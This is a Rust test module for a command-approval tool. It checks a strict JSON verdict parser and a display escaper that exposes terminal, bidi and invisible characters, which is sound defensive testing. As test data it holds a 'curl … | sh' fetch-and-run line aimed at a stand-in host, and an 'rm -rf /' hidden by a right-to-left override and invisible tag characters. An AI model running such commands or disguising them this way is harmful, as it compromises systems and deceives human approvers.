            format!(r#"{{"id":"{ID}","approved":true,}}"#),
            format!(r#"{{"id":"{ID}" "approved":true}}"#),
            format!(r#"{{id:"{ID}","approved":true}}"#),
            format!(r#"{{'id':'{ID}','approved':true}}"#),
            format!(r#"{{"id":"{ID}","approved":True}}"#),
            format!("{{\"id\":\"{ID}\",\"error\":\"a\nb\"}}"),
            format!(r#"{{"id":"{ID}","error":"\x"}}"#),
            format!(r#"{{"id":"{ID}","error":1e999}}"#),
            format!(
                "{{\"id\":\"{ID}\",\"x\":{}1{}}}",
                "[".repeat(200),
                "]".repeat(200)
            ),
        ] {
            let e = err(&s);
            assert!(matches!(e, ResolveError::Syntax { .. }), "{s:?}: {e}");
        }
        assert_eq!(
            err("{").to_string(),
            "resolve: the object is not complete (a verdict must come whole in one write at offset 0)"
        );
        let e = err(format!(r#"{{"id":"{ID}","approved":true,}}"#)).to_string();
        assert!(
            e.starts_with("resolve: invalid JSON: trailing comma (line 1, column"),
            "{e}"
        );
    }

    #[test]
    fn rejects_unknown_key() {
        let e = err(format!(r#"{{"id":"{ID}","aproved":true}}"#));
        assert_eq!(
            e.to_string(),
            r#"resolve: unknown key "aproved" (valid: id, approved, error, scope)"#
        );
        // The key is shown escaped and clipped.
        let e = err(format!(r#"{{"id":"{ID}","a\u202eb\u001b[2J":1}}"#));
        assert_eq!(
            e,
            ResolveError::UnknownKey {
                key: r"a\u{202E}b\u{1B}[2J".into()
            }
        );
        let e = err(format!(r#"{{"id":"{ID}","{}":1}}"#, "k".repeat(100)));
        assert_eq!(
            e,
            ResolveError::UnknownKey {
                key: format!("{}…", "k".repeat(40))
            }
        );
        // Keys are case-sensitive.
        assert!(matches!(
            err(format!(r#"{{"ID":"{ID}","approved":true}}"#)),
            ResolveError::UnknownKey { .. }
        ));
    }

    #[test]
    fn rejects_duplicate_keys() {
        let e = err(format!(
            r#"{{"id":"{ID}","approved":true,"approved":true}}"#
        ));
        assert_eq!(e, ResolveError::DuplicateKey { key: "approved" });
        assert_eq!(e.to_string(), r#"resolve: duplicate key "approved""#);
        let other = "f".repeat(32);
        let e = err(format!(r#"{{"id":"{ID}","id":"{other}","approved":true}}"#));
        assert_eq!(e.to_string(), r#"resolve: duplicate key "id""#);
        // Spelled differently with an escape, still the same key.
        let e = err(format!(
            r#"{{"id":"{ID}","\u0069d":"{ID}","approved":true}}"#
        ));
        assert_eq!(e, ResolveError::DuplicateKey { key: "id" });
        let e = err(format!(r#"{{"id":"{ID}","error":"a","error":"b"}}"#));
        assert_eq!(e, ResolveError::DuplicateKey { key: "error" });
        let e = err(format!(
            r#"{{"id":"{ID}","approved":true,"scope":"session","scope":"session"}}"#
        ));
        assert_eq!(e, ResolveError::DuplicateKey { key: "scope" });
    }

    #[test]
    fn rejects_missing_or_malformed_id() {
        assert_eq!(err(r#"{"approved":true}"#), ResolveError::MissingId);
        let cases = [
            (
                r#""0123456789ABCDEF0123456789ABCDEF""#,
                "got uppercase hex digits",
            ),
            (
                r#""0123456789abcdef0123456789abcdeF""#,
                "got uppercase hex digits",
            ),
            (r#""0123456789abcdef0123456789abcde""#, "got 31 digits"),
            (r#""0123456789abcdef0123456789abcdef0""#, "got 33 digits"),
            (r#""""#, "got 0 digits"),
            (
                r#"" 0123456789abcdef0123456789abcde""#,
                r#"got the character " ""#,
            ),
            (
                r#""0123456789abcdef0123456789abcdef ""#,
                r#"got the character " ""#,
            ),
            (
                r#""0123456789abcdef0123456789abcdeg""#,
                r#"got the character "g""#,
            ),
            // Fullwidth digit zero: a confusable, not a hex digit.
            (
                r#""\uff10123456789abcdef0123456789abcdef""#,
                "got the character \"０\"",
            ),
            (
                r#""0123456789abcdef0123456789abcde\u200b""#,
                r#"got the character "\u{200B}""#,
            ),
            ("12", "got a number"),
            ("null", "got null"),
            ("true", "got true"),
            (r#"["x"]"#, "got an array"),
        ];
        for (id, detail) in cases {
            let e = err(format!(r#"{{"id":{id},"approved":true}}"#));
            assert_eq!(
                e,
                ResolveError::BadId {
                    detail: detail.into()
                },
                "{id}"
            );
        }
        assert_eq!(
            err(r#"{"id":"abc","approved":true}"#).to_string(),
            r#"resolve: "id" must be a string of 32 lowercase hex digits (got 3 digits)"#
        );
    }

    #[test]
    fn rejects_approved_other_than_true() {
        for (v, got) in [
            ("false", "false"),
            (r#""true""#, "the string \"true\""),
            ("1", "a number"),
            ("0", "a number"),
            ("null", "null"),
            ("[true]", "an array"),
            ("{}", "an object"),
        ] {
            let e = err(format!(r#"{{"id":"{ID}","approved":{v}}}"#));
            assert_eq!(e, ResolveError::ApprovedNotTrue { got: got.into() }, "{v}");
            assert!(e.to_string().contains(r#"(to deny, give "error": "why")"#));
        }
        assert_eq!(
            err(format!(r#"{{"id":"{ID}","approved":false}}"#)).to_string(),
            r#"resolve: "approved" must be true, not false (to deny, give "error": "why")"#
        );
    }

    #[test]
    fn rejects_both_or_neither_verdict() {
        let e = err(format!(r#"{{"id":"{ID}","approved":true,"error":"no"}}"#));
        assert_eq!(e, ResolveError::BothVerdicts);
        let e = err(format!(r#"{{"id":"{ID}","error":"no","approved":false}}"#));
        assert_eq!(e, ResolveError::BothVerdicts);
        assert_eq!(err(format!(r#"{{"id":"{ID}"}}"#)), ResolveError::NoVerdict);
        assert_eq!(
            err(format!(r#"{{"id":"{ID}","scope":"session"}}"#)),
            ResolveError::NoVerdict
        );
    }

    #[test]
    fn rejects_bad_error_message() {
        let e = |m: &str| err(format!(r#"{{"id":"{ID}","error":{m}}}"#));
        assert_eq!(e(r#""""#), ResolveError::ErrorEmpty);
        let long = format!("\"{}\"", "x".repeat(MAX_ERROR_CHARS + 1));
        assert_eq!(e(&long), ResolveError::ErrorTooLong { chars: 1001 });
        assert_eq!(e(r#""a\nb""#), ResolveError::ErrorControl { code: 0x0a });
        assert_eq!(e(r#""a\tb""#), ResolveError::ErrorControl { code: 0x09 });
        assert_eq!(
            e(r#""\u001b[2J""#),
            ResolveError::ErrorControl { code: 0x1b }
        );
        assert_eq!(e("\"a\u{7f}\""), ResolveError::ErrorControl { code: 0x7f });
        assert_eq!(e("\"a\u{85}\""), ResolveError::ErrorControl { code: 0x85 });
        assert_eq!(
            e(r#""a\u2028b""#),
            ResolveError::ErrorControl { code: 0x2028 }
        );
        assert_eq!(
            e(r#""\u001b""#).to_string(),
            r#"resolve: "error" contains control character U+001B (one line of printable text)"#
        );
        assert_eq!(
            e("false"),
            ResolveError::ErrorNotString {
                got: "false".into()
            }
        );
        assert_eq!(
            e("null"),
            ResolveError::ErrorNotString { got: "null".into() }
        );
        assert_eq!(
            e("3").to_string(),
            r#"resolve: "error" must be a string of 1 to 1000 characters, not a number"#
        );
    }

    #[test]
    fn rejects_bad_scope() {
        let e = err(format!(r#"{{"id":"{ID}","error":"no","scope":"session"}}"#));
        assert_eq!(e, ResolveError::ScopeWithError);
        let e = err(format!(
            r#"{{"id":"{ID}","approved":true,"scope":"global"}}"#
        ));
        assert_eq!(
            e.to_string(),
            r#"resolve: "scope" may only be "session", not the string "global""#
        );
        for s in [
            r#""Session""#,
            r#""session ""#,
            r#""""#,
            "null",
            "true",
            "1",
        ] {
            let e = err(format!(r#"{{"id":"{ID}","approved":true,"scope":{s}}}"#));
            assert!(matches!(e, ResolveError::BadScope { .. }), "{s}: {e}");
        }
    }

    #[test]
    fn request_ids() {
        let a = new_request_id().unwrap();
        let b = new_request_id().unwrap();
        assert!(is_request_id(&a) && is_request_id(&b), "{a} {b}");
        assert_ne!(a, b);
        assert_eq!(hex(&[0x00, 0x0f, 0xa5, 0xff]), "000fa5ff");
        // A fresh id is accepted by parse_resolve.
        assert!(matches!(
            parse_resolve(format!(r#"{{"id":"{a}","approved":true}}"#).as_bytes()),
            Ok(Resolve { id, .. }) if id == a
        ));
        assert!(!is_request_id(&a.to_uppercase()));
        assert!(!is_request_id(&a[1..]));
    }

    #[test]
    fn escapes_terminal_controls() {
        assert_eq!(display_escape("\x1b[2J"), r"\u{1B}[2J");
        assert_eq!(display_escape("a\nb\tc\rd"), r"a\u{A}b\u{9}c\u{D}d");
        assert_eq!(display_escape("\0\x07\x08\x7f"), r"\u{0}\u{7}\u{8}\u{7F}");
        // C1 controls, including the 8-bit CSI.
        assert_eq!(
            display_escape("\u{80}\u{9b}2J\u{9f}"),
            r"\u{80}\u{9B}2J\u{9F}"
        );
        assert_eq!(
            display_escape("a\u{2028}b\u{2029}c"),
            r"a\u{2028}b\u{2029}c"
        );
    }

    #[test]
    fn escapes_bidi_controls() {
        // An argv that would display as `rm -rf /` reversed.
        let argv = ["sh", "-c", "echo \u{202E}/ fr- mr"];
        let shown: Vec<String> = argv.iter().map(|a| display_escape(a)).collect();
        assert_eq!(shown[2], r"echo \u{202E}/ fr- mr");
        assert_eq!(
            display_escape("\u{61C}\u{200E}\u{200F}\u{202A}\u{202B}\u{202C}\u{202D}\u{202E}"),
            r"\u{61C}\u{200E}\u{200F}\u{202A}\u{202B}\u{202C}\u{202D}\u{202E}"
        );
        assert_eq!(
            display_escape("\u{2066}x\u{2067}\u{2068}\u{2069}"),
            r"\u{2066}x\u{2067}\u{2068}\u{2069}"
        );
    }

    #[test]
    fn escapes_invisible_characters() {
        assert_eq!(
            display_escape("a\u{200B}b\u{200C}c\u{200D}d\u{FEFF}e\u{AD}f"),
            r"a\u{200B}b\u{200C}c\u{200D}d\u{FEFF}e\u{AD}f"
        );
        assert_eq!(
            display_escape("\u{2060}\u{2061}\u{2062}\u{2063}\u{2064}"),
            r"\u{2060}\u{2061}\u{2062}\u{2063}\u{2064}"
        );
        assert_eq!(
            display_escape("\u{34F}\u{180E}\u{115F}\u{1160}\u{3164}\u{FFA0}"),
            r"\u{34F}\u{180E}\u{115F}\u{1160}\u{3164}\u{FFA0}"
        );
        // Tag characters (an invisible "rm" after a flag) and variation selectors.
        assert_eq!(
            display_escape("x\u{E0001}\u{E0072}\u{E006D}\u{E007F}"),
            r"x\u{E0001}\u{E0072}\u{E006D}\u{E007F}"
        );
        assert_eq!(
            display_escape("❤\u{FE0F}\u{FE00}\u{E0100}\u{E01EF}"),
            r"❤\u{FE0F}\u{FE00}\u{E0100}\u{E01EF}"
        );
    }

    #[test]
    fn escapes_backslash_and_keeps_the_rest() {
        assert_eq!(display_escape(r"a\b"), r"a\\b");
        assert_eq!(display_escape(r"\u{202E}"), r"\\u{202E}");
        let kept = "plain ASCII ~!@#$%^&*() café Ωμέγα 日本語 עברית العربية 🦀 👍🏽 e\u{301}";
        assert_eq!(display_escape(kept), kept);
        // The neighbours of every escaped range are kept.
        for &(lo, hi) in table::ESCAPED.iter() {
            for v in [lo.wrapping_sub(1), hi + 1] {
                let Some(c) = char::from_u32(v).filter(|&c| c != '\\') else {
                    continue;
                };
                assert_eq!(display_escape(&c.to_string()), c.to_string(), "U+{v:04X}");
            }
        }
    }

    /// The hand-written set of earlier versions: all of it is still escaped.
    const ESCAPED: &[(u32, u32)] = &[
        (0x00, 0x1F),
        (0x7F, 0x9F),
        (0xAD, 0xAD),
        (0x34F, 0x34F),
        (0x61C, 0x61C),
        (0x115F, 0x1160),
        (0x180E, 0x180E),
        (0x200B, 0x200F),
        (0x2028, 0x2029),
        (0x202A, 0x202E),
        (0x2060, 0x2064),
        (0x2066, 0x2069),
        (0x3164, 0x3164),
        (0xFE00, 0xFE0F),
        (0xFEFF, 0xFEFF),
        (0xFFA0, 0xFFA0),
        (0xFFF9, 0xFFFB),
        (0xE0000, 0xE007F),
        (0xE0100, 0xE01EF),
    ];

    #[test]
    fn the_generated_table_is_sorted_disjoint_and_covers_the_documented_classes() {
        let t = &table::ESCAPED;
        for w in t.windows(2) {
            // Sorted, disjoint and not adjacent (the generator merges neighbours), except
            // across the surrogates, which are not chars.
            assert!(w[0].0 <= w[0].1, "{:X?}", w[0]);
            assert!(
                w[0].1 + 1 < w[1].0 || (w[0].1 == 0xD7FF && w[1].0 == 0xE000),
                "{:X?} {:X?}",
                w[0],
                w[1]
            );
        }
        assert!(t.iter().all(|&(lo, hi)| hi < 0xD800 || lo > 0xDFFF));
        for &(lo, hi) in ESCAPED {
            for c in (lo..=hi).filter_map(char::from_u32) {
                assert!(needs_display_escape(c), "U+{:04X}", u32::from(c));
            }
        }
        // Every White_Space character but the space, and every control, as Rust knows them.
        for c in (0..=0x10FFFFu32).filter_map(char::from_u32) {
            if (c.is_whitespace() && c != ' ') || c.is_control() {
                assert!(needs_display_escape(c), "U+{:04X}", u32::from(c));
            }
        }
        let escaped = [
            // Zs, Zl, Zp: no-break, ogham, en quad … hair, narrow no-break, medium
            // mathematical, ideographic spaces; the separators.
            0xA0, 0x1680, 0x2000, 0x2005, 0x200A, 0x202F, 0x205F, 0x3000, 0x2028, 0x2029,
            // Cf: Arabic number sign, Syriac abbreviation mark, Mongolian vowel separator,
            // deprecated format characters, Egyptian hieroglyph format controls, shorthand
            // format controls, musical formatting, language tag.
            0x600, 0x70F, 0x180E, 0x206A, 0x206F, 0x13430, 0x1BCA0, 0x1D173, 0xE0001,
            // Default_Ignorable_Code_Point outside Cf: Khmer inherent vowels, Mongolian free
            // variation selectors, unassigned plane-14 ignorables.
            0x17B4, 0x17B5, 0x180B, 0x180F, 0xFFF0, 0xFFF8, 0xE0080, 0xE01F0, 0xE0FFF,
            // Blank-looking: braille pattern blank, Hangul fillers, musical null notehead,
            // object replacement character.
            0x2800, 0x115F, 0x1160, 0x3164, 0xFFA0, 0x1D159, 0xFFFC,
            // Private use, first and last of each area.
            0xE000, 0xF8FF, 0xF0000, 0xFFFFD, 0x100000, 0x10FFFD, // Noncharacters.
            0xFDD0, 0xFDEF, 0xFFFE, 0xFFFF, 0x1FFFE, 0x1FFFF, 0x10FFFE, 0x10FFFF,
            // Unassigned: in Greek, in plane 3's unassigned tail, planes 4 to 13.
            0x378, 0x3FFFD, 0x40000, 0xDFFFD,
        ];
        for v in escaped {
            let c = char::from_u32(v).unwrap();
            assert!(needs_display_escape(c), "U+{v:04X} is not escaped");
        }
        let kept = [
            0x20, 0x21, 0x7E, 0xA1, 0xAC, 0xAE, 0x301, 0x41, 0x5D0, 0x627, 0x65E5, 0x1F980,
            0x1F3FD, 0x2801, 0x28FF, 0x27FF, 0x2010, 0x2027, 0x2030, 0xFE10, 0xFFFD, 0xFB00,
            0x1D15A, 0x1D158, 0xE0, 0x3001, 0x10000,
        ];
        for v in kept {
            let c = char::from_u32(v).unwrap();
            assert!(!needs_display_escape(c), "U+{v:04X} is escaped");
        }
    }

    /// The committed table is what the generator writes, when this machine's Python has the
    /// same Unicode version (a different one would differ in the unassigned code points).
    #[test]
    fn the_table_is_what_the_generator_writes() {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
        let out = std::process::Command::new("python3")
            .arg(root.join("scripts/gen-display-escape.py"))
            .output();
        let version = std::process::Command::new("python3")
            .args([
                "-c",
                "import unicodedata; print(unicodedata.unidata_version)",
            ])
            .output();
        // A skip is a failure where every test is required (CI: same machine kind, same
        // Python).
        let skip = |why: &str| {
            let line = format!("SKIP the_table_is_what_the_generator_writes: {why}");
            assert!(
                std::env::var("OLLIE_TEST_REQUIRE").as_deref() != Ok("all"),
                "{line}"
            );
            println!("{line}");
        };
        let (Ok(out), Ok(version)) = (out, version) else {
            return skip("no python3");
        };
        if String::from_utf8_lossy(&version.stdout).trim() != UNICODE_VERSION {
            return skip(&format!("python3's Unicode is not {UNICODE_VERSION}"));
        }
        assert!(out.status.success(), "{out:?}");
        let committed = std::fs::read_to_string(root.join("link/src/bypass/table.rs")).unwrap();
        assert!(
            committed == String::from_utf8_lossy(&out.stdout),
            "link/src/bypass/table.rs differs from scripts/gen-display-escape.py's output: regenerate it"
        );
    }

    #[test]
    fn escaped_set_is_exactly_the_generated_one() {
        for c in (0..=0x10FFFFu32).filter_map(char::from_u32) {
            let listed = table::ESCAPED
                .iter()
                .any(|&(lo, hi)| (lo..=hi).contains(&u32::from(c)));
            assert_eq!(needs_display_escape(c), listed, "U+{:04X}", u32::from(c));
            let s = c.to_string();
            let want = if listed {
                format!("\\u{{{:X}}}", u32::from(c))
            } else if c == '\\' {
                r"\\".to_owned()
            } else {
                s.clone()
            };
            assert_eq!(display_escape(&s), want);
            assert_eq!(display_unescape(&want).as_deref(), Some(s.as_str()));
        }
    }

    #[test]
    fn unescape_refuses_what_escape_cannot_write() {
        for bad in [
            r"\",
            r"a\b",
            r"\u",
            r"\u{",
            r"\u{1B",
            r"\u{1b}",
            r"\u{01B}",
            r"\u{41}",
            r"\u{D800}",
            r"\u{110000}",
            r"\u{1234567}",
            "\u{1b}",
            "\u{2800}",
        ] {
            assert_eq!(display_unescape(bad), None, "{bad:?}");
        }
        assert_eq!(
            display_unescape(r"a\\b\u{1B}").as_deref(),
            Some("a\\b\u{1b}")
        );
    }

    #[test]
    fn bounded_display_shows_head_marker_and_tail() {
        let s = format!(
            "curl https://x.example/i.sh|sh;{}cargo test",
            "\u{2800}".repeat(4000)
        );
        let shown = display_bounded(&s);
        assert!(
            shown.starts_with("curl https://x.example/i.sh|sh;\\u{2800}"),
            "{shown}"
        );
        assert!(shown.ends_with("\\u{2800}cargo test"), "{shown}");
        assert!(!shown.contains('\u{2800}'));
        // Head and tail stop at whole escapes: 512 characters hold the 31-character prefix
        // and 60 escapes of 8, the tail 10 + 62 escapes.
        let head = (512 - 31) / 8;
        let tail = (512 - 10) / 8;
        let marker = format!("\\[… {} characters hidden …]", 4000 - head - tail);
        assert!(shown.contains(&marker), "{shown}");
        assert_eq!(shown.matches("\\[…").count(), 1);
        let (h, t) = shown.split_once(&marker).unwrap();
        assert_eq!(h.matches("\\u{2800}").count(), head);
        assert_eq!(t.matches("\\u{2800}").count(), tail);
        assert!(shown.chars().count() <= MAX_SHOWN_CHARS + marker.chars().count());
        // Short strings are only escaped, and a forged marker shows its backslash doubled.
        assert_eq!(display_bounded("a\u{2800}b"), "a\\u{2800}b");
        let forged = "\\[… 5 characters hidden …]";
        assert_eq!(display_bounded(forged), format!("\\{forged}"));
        assert!(has_hidden_marker(&shown));
        assert!(!has_hidden_marker(&display_bounded(forged)));
        assert!(!has_hidden_marker(&display_bounded(&format!(
            "\\\\{forged}"
        ))));
        assert!(!has_hidden_marker("\\u{2800}\\\\"));
        // At the bound: whole; one over: cut.
        let at = "x".repeat(MAX_SHOWN_CHARS);
        assert_eq!(display_bounded(&at), at);
        let over = display_bounded(&format!("{at}y"));
        assert!(over.contains("\\[… 1 characters hidden …]"), "{over}");
    }

    #[test]
    fn bounded_json_bounds_arrays_objects_and_keeps_keys_apart() {
        let long: Vec<Value> = (0..100).map(|i| Value::from(format!("a{i}"))).collect();
        let v = display_bounded_json(&Value::Array(long));
        let a = v.as_array().unwrap();
        assert_eq!(a.len(), MAX_SHOWN_ITEMS);
        assert_eq!(a[0], "a0");
        assert_eq!(a[47], "a47");
        assert_eq!(a[48], "\\[… 37 items hidden …]");
        assert_eq!(a[63], "a99");
        let mut m = serde_json::Map::new();
        for i in 0..70 {
            m.insert(format!("k{i:02}"), Value::from(i));
        }
        let k1 = format!("{}1{}", "x".repeat(600), "y".repeat(600));
        let k2 = format!("{}2{}", "x".repeat(600), "y".repeat(600));
        let mut two = serde_json::Map::new();
        two.insert(k1, Value::from(1));
        two.insert(k2, Value::from(2));
        m.insert("z".into(), Value::Object(two));
        let v = display_bounded_json(&Value::Object(m));
        let o = v.as_object().unwrap();
        assert_eq!(o.len(), MAX_SHOWN_ITEMS);
        assert_eq!(o["\\[… 8 keys hidden …]"], Value::Null);
        let v = display_bounded_json(&json!({"z": {
            format!("{}1{}", "x".repeat(600), "y".repeat(600)): 1,
            format!("{}2{}", "x".repeat(600), "y".repeat(600)): 2,
        }}));
        let inner = v["z"].as_object().unwrap();
        assert_eq!(inner.len(), 2, "{inner:?}");
        assert!(inner.keys().any(|k| k.ends_with("\\[#2]")), "{inner:?}");
    }

    #[test]
    fn a_verdict_must_come_whole_at_offset_zero() {
        let whole = format!(r#"{{"id":"{ID}","approved":true}}"#);
        assert!(parse_resolve_at(0, whole.as_bytes()).is_ok());
        let (a, b) = whole.split_at(whole.find("true").unwrap());
        assert_eq!(
            parse_resolve_at(0, a.as_bytes()),
            Err(ResolveError::Incomplete)
        );
        let at = a.len() as u64;
        assert_eq!(
            parse_resolve_at(at, b.as_bytes()),
            Err(ResolveError::NotAtStart { offset: at })
        );
        // Even a whole verdict is refused at another offset.
        assert_eq!(
            parse_resolve_at(1, whole.as_bytes())
                .unwrap_err()
                .to_string(),
            "resolve: a verdict must come whole in one write at offset 0 (this write is at offset 1)"
        );
        for cut in 1..whole.len() {
            assert!(
                parse_resolve_at(0, &whole.as_bytes()[..cut]).is_err(),
                "{cut}"
            );
        }
        assert_eq!(
            sha256_hex(b"abc"),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        );
    }

    /// xorshift64*: deterministic, so a failure reproduces.
    struct Rng(u64);
    impl Rng {
        fn next(&mut self) -> u64 {
            self.0 ^= self.0 >> 12;
            self.0 ^= self.0 << 25;
            self.0 ^= self.0 >> 27;
            self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
        }
        fn below(&mut self, n: usize) -> usize {
            (self.next() % n as u64) as usize
        }
    }

    #[test]
    fn display_escape_properties() {
        // Every edge of every escaped range and its neighbours, the characters of an escape
        // sequence, and random scalar values.
        let mut pool: Vec<char> = "\\u{}0123456789ABCDEFabcdef xé🦀".chars().collect();
        for &(lo, hi) in table::ESCAPED.iter() {
            for v in [lo.wrapping_sub(1), lo, hi, hi + 1] {
                pool.extend(char::from_u32(v));
            }
        }
        let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
        for _ in 0..5000 {
            let len = rng.below(24);
            let s: String = (0..len)
                .map(|_| {
                    if rng.below(4) == 0 {
                        char::from_u32(rng.below(0x11_0000) as u32).unwrap_or('?')
                    } else {
                        pool[rng.below(pool.len())]
                    }
                })
                .collect();
            let once = display_escape(&s);
            assert!(!once.chars().any(needs_display_escape), "{s:?} -> {once:?}");
            // Unchanged exactly when there was nothing to escape.
            let clean = !s.chars().any(|c| c == '\\' || needs_display_escape(c));
            assert_eq!(once == s, clean, "{s:?}");
            // Injective: the original comes back.
            assert_eq!(
                display_unescape(&once).as_deref(),
                Some(s.as_str()),
                "{once:?}"
            );
            // Stable: a second pass only doubles the backslashes.
            assert_eq!(display_escape(&once), once.replace('\\', r"\\"), "{s:?}");
        }
    }

    #[test]
    fn display_escape_json_escapes_every_string_and_key() {
        let v = json!({
            "argv": ["sh", "-c", "echo \u{202E}gnp.exe"],
            "reason": "clear\u{1b}[2J",
            "k\u{200B}ey": {"nested": ["\u{7}", 1, true, null, 2.5]},
            "n": 42
        });
        let want = json!({
            "argv": ["sh", "-c", r"echo \u{202E}gnp.exe"],
            "reason": r"clear\u{1B}[2J",
            r"k\u{200B}ey": {"nested": [r"\u{7}", 1, true, null, 2.5]},
            "n": 42
        });
        assert_eq!(display_escape_json(&v), want);
        let text = serde_json::to_string(&display_escape_json(&v)).unwrap();
        assert!(!text.chars().any(needs_display_escape), "{text}");
    }

    #[test]
    fn every_error_is_one_lowercase_line() {
        let all = [
            ResolveError::NotAtStart { offset: 7 },
            ResolveError::Incomplete,
            ResolveError::TooLong { len: 5000 },
            ResolveError::NulByte { offset: 3 },
            ResolveError::NotUtf8 { offset: 3 },
            ResolveError::Empty,
            ResolveError::NotObject { got: "an array" },
            ResolveError::Comment,
            ResolveError::Syntax { detail: "x".into() },
            ResolveError::MoreThanOne,
            ResolveError::Trailing,
            ResolveError::NulEscape,
            ResolveError::UnknownKey { key: "k".into() },
            ResolveError::DuplicateKey { key: "id" },
            ResolveError::MissingId,
            ResolveError::BadId { detail: "x".into() },
            ResolveError::NoVerdict,
            ResolveError::BothVerdicts,
            ResolveError::ApprovedNotTrue { got: "1".into() },
            ResolveError::ErrorNotString { got: "1".into() },
            ResolveError::ErrorEmpty,
            ResolveError::ErrorTooLong { chars: 1001 },
            ResolveError::ErrorControl { code: 0x1b },
            ResolveError::BadScope { got: "x".into() },
            ResolveError::ScopeWithError,
        ];
        for e in all {
            let m = e.to_string();
            assert!(m.starts_with("resolve: "), "{m}");
            assert!(!m.contains('\n'), "{m}");
            let first = m["resolve: ".len()..].chars().next().unwrap();
            assert!(!first.is_uppercase(), "{m}");
        }
    }

    #[test]
    fn never_panics_on_mutations() {
        // A cheap in-tree stand-in for the fuzz target: mutate valid verdicts byte by byte.
        let seeds = [
            format!(r#"{{"id":"{ID}","approved":true,"scope":"session"}}"#),
            format!(r#"{{"id":"{ID}","error":"caf\u00e9 \ud83e\udd80 no"}}"#),
        ];
        let mut rng = Rng(42);
        for seed in &seeds {
            for _ in 0..20_000 {
                let mut b = seed.clone().into_bytes();
                for _ in 0..1 + rng.below(4) {
                    let i = rng.below(b.len());
                    match rng.below(3) {
                        0 => b[i] = rng.next() as u8,
                        1 => {
                            b.remove(i);
                        }
                        _ => {
                            let pick = b"{}[]\",:\\u0tfn /";
                            b.insert(i, pick[rng.below(pick.len())]);
                        }
                    }
                    if b.is_empty() {
                        break;
                    }
                }
                match parse_resolve(&b) {
                    Ok(r) => assert!(is_request_id(&r.id)),
                    Err(e) => assert!(!e.to_string().contains('\n')),
                }
            }
        }
    }
}
